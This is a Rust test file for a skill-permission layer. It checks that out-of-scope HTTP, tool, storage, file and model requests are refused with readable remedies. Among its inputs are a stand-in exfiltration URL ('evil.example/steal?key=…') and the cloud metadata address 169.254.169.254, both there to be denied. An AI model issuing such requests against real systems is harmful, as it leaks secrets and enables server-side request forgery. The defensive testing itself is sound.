//! The sentences, to be read aloud.
#![expect(clippy::unwrap_used, clippy::panic, reason = "tests")]

use std::fmt::Write as _;

use super::Denial;
use crate::{
    code::Code,
    effect::Effect,
    fault::Fault,
    files::Access,
    grant::Grant,
    http::{AddressPolicy, CanonicalUrl, Method},
    log::LogLevel,
    manifest::Manifest,
    policy::Authority,
    run::{RunScope, Switch},
};

const MANIFEST: &str = r#"[skill]
name = "com.acme/sales"
version = "1.0.0"
[tools.wipe]
effect = "destructive"
[[capabilities.http]]
host = "*.sales.example"
methods = ["GET", "POST"]
paths = ["/v1/**"]
credential = "sales"
[[capabilities.http]]
scheme = "http"
host = "eu.sales.example"
methods = ["GET"]
paths = ["/**"]
[capabilities.kv]
buckets = ["cache"]
[[capabilities.files]]
path = "/data"
access = "read"
[capabilities.artifacts]
[capabilities.config]
keys = ["url"]
[capabilities.log]
[capabilities.model]
routes = ["drafting"]
[capabilities.calls]
tools = ["com.acme/jira#addComment"]
"#;

const GRANT: &str = r#"skill = "com.acme/sales"
tenant = "acme"
tools = ["wipe"]
[[http]]
host = "eu.sales.example"
methods = ["GET"]
paths = ["/v1/items"]
credential = "sales"
[[http]]
host = "us.sales.example"
methods = ["GET"]
paths = ["/v1/items"]
[[http]]
host = "old.sales.example"
methods = ["GET"]
paths = ["/v1/items"]
credential = "sales"
[credentials.sales]
kind = "bearer"
secret = { env = "SALES" }
hosts = ["eu.sales.example"]
"#;

/// Every refusal there is, with its remedy.
fn page() -> String {
    let manifest = Manifest::parse(MANIFEST).unwrap();
    let grant = Grant::parse(GRANT).unwrap();
    let open = RunScope::unrestricted();
    let mut shut = RunScope::of_tools([]);
    shut.http = Some(Vec::new());
    shut.artifacts = Switch::Off;
    let empty = Manifest::empty();
    let authority = Authority::new(&manifest, &grant, &open);
    let narrowed = Authority::new(&manifest, &grant, &shut);
    let reading = RunScope::unrestricted().up_to(Effect::Read);
    let careful = Authority::new(&manifest, &grant, &reading);
    let unasked = Authority::new(&empty, &grant, &open);
    let http = |authority: &Authority<'_>, method: &Method, url: &str| {
        authority
            .http(method, &CanonicalUrl::parse(url).unwrap())
            .map(|_| ())
            .unwrap_err()
    };
    let (tool, wipe) = ("query".parse().unwrap(), "wipe".parse().unwrap());
    let (bucket, path, key) = (
        "cache".parse().unwrap(),
        "/data/a.csv".parse().unwrap(),
        "url".parse().unwrap(),
    );
    let (route, other) = (
        "drafting".parse().unwrap(),
        "com.acme/jira#addComment".parse().unwrap(),
    );
    let address = AddressPolicy::default()
        .check("169.254.169.254".parse().unwrap())
        .unwrap_err();
    let denials = [
        http(
            &authority,
            &Method::GET,
            "https://evil.example/steal?key=hunter2",
        ),
        http(&authority, &Method::GET, "https://eu.sales.example/v2/x"),
        http(
            &unasked,
            &Method::GET,
            "https://eu.sales.example:8443/v2/a%20%22b%22",
        ),
        http(
            &authority,
            &Method::POST,
            "https://eu.sales.example/v1/items",
        ),
        http(
            &authority,
            &Method::GET,
            "https://eu.sales.example/v1/users",
        ),
        http(&authority, &Method::GET, "https://ap.sales.example/v1/*"),
        http(&authority, &Method::GET, "http://eu.sales.example/v1/items"),
        http(
            &authority,
            &Method::GET,
            "https://us.sales.example/v1/items",
        ),
        http(
            &authority,
            &Method::GET,
            "https://old.sales.example/v1/items",
        ),
        http(&narrowed, &Method::GET, "https://eu.sales.example/v1/items"),
        Denial::address_blocked(&"eu.sales.example".parse().unwrap(), address),
        authority.tool(&tool, Effect::Read).unwrap_err(),
        narrowed.tool(&wipe, Effect::Read).unwrap_err(),
        careful.tool(&wipe, Effect::Read).unwrap_err(),
        unasked.kv(&bucket).unwrap_err(),
        authority.kv(&bucket).unwrap_err(),
        unasked.files(&path, Access::Read).unwrap_err(),
        authority.files(&path, Access::Read).unwrap_err(),
        unasked.config(&key).unwrap_err(),
        authority.config(&key).unwrap_err(),
        unasked.artifacts(1).unwrap_err(),
        authority.artifacts(1).unwrap_err(),
        unasked.log(LogLevel::Info).unwrap_err(),
        authority.log(LogLevel::Info).unwrap_err(),
        unasked.model(&route).unwrap_err(),
        authority.model(&route).unwrap_err(),
        unasked.call(&other).unwrap_err(),
        authority.call(&other).unwrap_err(),
    ];
    let mut page = String::new();
    for denial in denials {
        writeln!(page, "{}\n  {denial}", denial.code()).unwrap();
        for line in denial.remedy().unwrap_or("(no lines to add)").lines() {
            writeln!(page, "    | {line}").unwrap();
        }
    }
    page
}

#[test]
fn every_refusal_reads_like_this() {
    insta::assert_snapshot!("denials", page());
}

#[test]
fn no_refusal_repeats_a_query() {
    assert!(!page().contains("hunter2"));
}

/// Whoever pastes the lines gets what was refused: each remedy for a request is a rule that allows it.
#[test]
fn the_lines_offered_for_a_request_allow_it() {
    let manifest = Manifest::parse(MANIFEST).unwrap();
    let url = CanonicalUrl::parse("http://eu.sales.example:8080/a%20%22b%22/%C3%BC").unwrap();
    let open = RunScope::unrestricted();
    let nothing = Grant::parse("skill = \"com.acme/sales\"\ntools = []").unwrap();
    let refused = Authority::new(&manifest, &nothing, &open)
        .http(&Method::GET, &url)
        .unwrap_err();
    let mended = MANIFEST.to_owned() + refused.remedy().unwrap();
    let manifest = Manifest::parse(&mended).unwrap();
    let refused = Authority::new(&manifest, &nothing, &open)
        .http(&Method::GET, &url)
        .unwrap_err();
    let mended = format!(
        "skill = \"com.acme/sales\"\ntools = []\n{}",
        refused.remedy().unwrap()
    );
    let grant = Grant::parse(&mended).unwrap_or_else(|error| panic!("{error}\n{mended}"));
    assert!(
        Authority::new(&manifest, &grant, &open)
            .http(&Method::GET, &url)
            .is_ok()
    );
}

#[test]
fn a_refusal_becomes_a_fault_with_its_remedy_as_hint() {
    let fault = Fault::from(Denial::new(Code::KvNotGranted, "No.").with_remedy("[kv]"));
    assert_eq!(
        (fault.code, fault.message.as_str(), fault.hint()),
        (Code::KvNotGranted, "No.", "[kv]")
    );
}
